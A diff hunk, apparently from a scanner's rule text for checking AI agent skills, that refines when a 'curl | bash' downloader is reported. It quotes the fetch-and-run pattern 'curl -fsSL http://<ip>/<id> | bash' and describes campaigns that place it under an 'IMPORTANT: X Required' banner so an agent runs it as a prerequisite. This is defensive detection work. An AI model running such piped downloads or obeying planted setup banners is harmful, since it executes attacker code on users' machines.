@@ -53,6 +53,11 @@ repository or release assets on a code host (` + "`https://github.com/<owner>/<r
 ` + "`https://raw.githubusercontent.com/<owner>/<repo>/<ref>/install.sh`" + `) over https — still remote
 execution, but the way projects document their installs.
 
+A downloader given no address at all (` + "`curl | bash`" + ` or ` + "`curl ... | sh`" + ` named in a sentence or a
+checklist) names the pattern and is not reported. The URL may come from a variable another code
+block or reference file of the skill sets: the skill's instructions are read as one shell session,
+and the message names where the variable is set.
+
 Real campaigns put ` + "`curl -fsSL http://<ip>/<id> | bash`" + ` under an "IMPORTANT: X Required"
 banner; the agent runs it as a prerequisite.
 
